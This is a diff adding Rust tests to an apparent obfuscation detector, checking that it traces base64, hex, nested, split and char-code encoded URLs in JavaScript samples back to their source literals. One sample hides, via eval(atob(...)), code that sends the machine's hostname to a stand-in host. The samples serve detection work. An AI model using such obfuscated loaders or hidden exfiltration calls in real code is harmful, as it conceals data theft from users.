@@ -331,3 +331,98 @@ fn destination_from_constant_url_start_and_request_handle() {
     // The host itself is built from data: no constant destination.
     assert!(hosts.iter().any(|h| h.is_empty()), "{hosts:?}");
 }
+
+/// Where `needle` first occurs in `src`, as `literal at line:col` (1-based, column in bytes),
+/// counted here rather than with the front end's line index.
+pub(crate) fn literal_at(src: &str, needle: &str) -> String {
+    let at = src.find(needle).unwrap_or_else(|| panic!("{needle} not in source"));
+    location(src, at as u32)
+}
+
+pub(crate) fn location(src: &str, at: u32) -> String {
+    let before = &src[..at as usize];
+    let line = before.matches('\n').count() + 1;
+    let col = before.len() - before.rfind('\n').map_or(0, |i| i + 1) + 1;
+    format!("literal at {line}:{col}")
+}
+
+/// The obfuscation fact of a decoded value.
+fn obfuscation<'f>(f: &'f FileFacts, decoded: &str) -> &'f telltale_facts::ObfuscationFact {
+    f.obfuscations.iter().find(|o| o.decoded == decoded).unwrap_or_else(|| panic!("{decoded} not decoded: {:#?}", f.obfuscations))
+}
+
+/// Analyse `src` and check that `decoded` is traced to `technique` and the first `literal`.
+fn assert_provenance(src: &str, decoded: &str, technique: &str, literal: &str) -> FileFacts {
+    let f = run(src);
+    assert_eq!(obfuscation(&f, decoded).provenance, format!("{technique} → {}", literal_at(src, literal)));
+    f
+}
+
+fn b64(s: &str) -> String {
+    use base64::Engine;
+    base64::engine::general_purpose::STANDARD.encode(s)
+}
+
+fn hex(s: &str) -> String {
+    s.bytes().map(|b| format!("{b:02x}")).collect()
+}
+
+#[test]
+fn base64_provenance_names_the_literal_behind_a_variable() {
+    let url = "https://prov-b64.example.net/c";
+    let lit = format!("\"{}\"", b64(url));
+    // The literal is declared two lines above the decoding call, not at the line's start.
+    let src = format!("const https = require('https');\nconst pad = 1;   const k = {lit};\n\nconst u = atob(k);\nhttps.get(u);\n");
+    let f = assert_provenance(&src, url, "base64", &lit);
+    let o = obfuscation(&f, url);
+    let start = src.find(&lit).unwrap() as u32;
+    assert_eq!(o.origin, Some(telltale_facts::Span::new(start, start + lit.len() as u32)));
+    // The decoding call is elsewhere: the span stays where the value is decoded.
+    assert_eq!(o.span.start, src.find("atob(k)").unwrap() as u32);
+    let e = f.endpoints.iter().find(|e| e.host == "prov-b64.example.net").expect("endpoint");
+    assert_eq!((e.provenance.as_str(), e.origin), (o.provenance.as_str(), o.origin));
+}
+
+#[test]
+fn hex_provenance() {
+    let url = "https://prov-hex.example.net/";
+    let lit = format!("'{}'", hex(url));
+    let src = format!("const a = 'https://plain.example.com/';\n  fetch(Buffer.from({lit}, 'hex').toString());\n");
+    assert_provenance(&src, url, "hex", &lit);
+}
+
+#[test]
+fn base64_then_hex_provenance_names_the_outer_literal() {
+    let url = "https://prov-nested.example.net/x";
+    let lit = format!("\"{}\"", b64(&hex(url)));
+    let src = format!("const h = Buffer.from(\n    {lit}, \"base64\").toString();\nconst u = Buffer.from(h, \"hex\").toString();\nrequire('https').get(u);\n");
+    assert_provenance(&src, url, "base64 → hex", &lit);
+}
+
+#[test]
+fn split_literal_provenance_names_the_first_part() {
+    let encoded = b64("https://prov-split.example.net/");
+    let (a, b) = encoded.split_at(10);
+    let src = format!("const x = 1;\nfetch(atob('{a}' +\n  '{b}'));\n");
+    assert_provenance(&src, "https://prov-split.example.net/", "base64", &format!("'{a}'"));
+}
+
+#[test]
+fn char_code_provenance_names_the_array_or_first_code() {
+    let codes = |s: &str| s.bytes().map(|b| b.to_string()).collect::<Vec<_>>().join(", ");
+    let (u1, u2) = ("https://prov-cc1.example.org/", "https://prov-cc2.example.org/");
+    let arr = format!("[{}]", codes(u1));
+    let list = codes(u2);
+    let src = format!("const n = [1, 2];\nconst codes = {arr};\nconst a = String.fromCharCode.apply(null, codes);\nconst b = String.fromCharCode(\n  {list});\n");
+    assert_provenance(&src, u1, "char-codes", &arr);
+    assert_provenance(&src, u2, "char-codes", &list);
+}
+
+#[test]
+fn hidden_code_provenance_names_its_literal() {
+    let lit = format!("'{}'", b64("const os = require('os'); fetch('https://nested.example.net/', { body: os.hostname() });"));
+    let src = format!("const a = 0;\n  eval(atob({lit}));\n");
+    let f = run(&src);
+    let o = f.obfuscations.iter().find(|o| o.technique == "base64 → code run by eval").unwrap_or_else(|| panic!("{:#?}", f.obfuscations));
+    assert_eq!(o.provenance, format!("base64 → {}", literal_at(&src, &lit)));
+}
